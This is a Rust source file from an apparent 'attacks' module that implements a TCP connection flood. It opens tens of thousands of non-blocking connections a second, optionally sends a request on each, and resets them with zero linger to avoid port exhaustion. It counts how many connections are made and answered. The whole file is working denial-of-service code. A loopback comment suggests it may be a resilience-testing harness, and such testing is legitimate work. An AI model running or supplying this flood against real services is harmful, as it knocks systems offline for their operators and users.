//! Connections at a rate, and without waiting for any of them: a client that waits offers no more than is answered.

use crate::attacks::Done;
use nix::errno::Errno;
use nix::libc;
use nix::sys::socket::{AddressFamily, SockFlag, SockType, SockaddrStorage, connect, setsockopt, socket, sockopt};
use std::collections::VecDeque;
use std::io::{Read, Write};
use std::net::{SocketAddr, TcpStream};
use std::os::fd::AsRawFd;
use std::sync::atomic::Ordering;
use std::time::{Duration, Instant};

pub const THREADS: u32 = 2;
/// Connections a second, of all threads.
const RATE: u32 = 30_000;
/// Shorter ones cost more in waking up than they spread the load.
const PAUSE: Duration = Duration::from_millis(1);
/// What this machine had no time for is offered later, but not in a burst that no network would deliver.
const CATCH_UP: Duration = Duration::from_millis(20);

/// Offers connections that send `request`, and resets each when `kept` others have followed it.
pub fn flood(to: SocketAddr, end: Instant, done: &Done, request: &[u8], kept: usize) {
    let gap = Duration::from_secs(1) * THREADS / RATE;
    let mut open = VecDeque::with_capacity(kept + 1);
    let mut next = Instant::now();
    loop {
        let now = Instant::now();
        if now >= end {
            break;
        }
        if now < next {
            std::thread::sleep(PAUSE);
            continue;
        }
        next = next.max(now - CATCH_UP) + gap;
        let Ok(mut stream) = offer(to) else { continue };
        done.add(1);
        if !request.is_empty() {
            let _ = stream.write(request);
        }
        open.push_back(stream);
        if open.len() > kept {
            open.pop_front().into_iter().for_each(|oldest| part(oldest, done));
        }
    }
    open.into_iter().for_each(|stream| part(stream, done));
}

/// Looks what became of a connection, and resets it.
fn part(mut stream: TcpStream, done: &Done) {
    if stream.peer_addr().is_ok() {
        done.made.fetch_add(1, Ordering::Relaxed);
        if stream.read(&mut [0; 1024]).is_ok_and(|count| count > 0) {
            done.answered.fetch_add(1, Ordering::Relaxed);
        }
    }
}

/// A connection that the kernel goes on to make by itself; on loopback it is made by then, if the backlog has room.
fn offer(to: SocketAddr) -> nix::Result<TcpStream> {
    let flags = SockFlag::SOCK_NONBLOCK | SockFlag::SOCK_CLOEXEC;
    let socket = socket(AddressFamily::Inet, SockType::Stream, flags, None)?;
    // Closing sends a reset and leaves no TIME_WAIT, so the ports never run out.
    setsockopt(&socket, sockopt::Linger, &libc::linger { l_onoff: 1, l_linger: 0 })?;
    match connect(socket.as_raw_fd(), &SockaddrStorage::from(to)) {
        Ok(()) | Err(Errno::EINPROGRESS) => Ok(socket.into()),
        Err(error) => Err(error),
    }
}
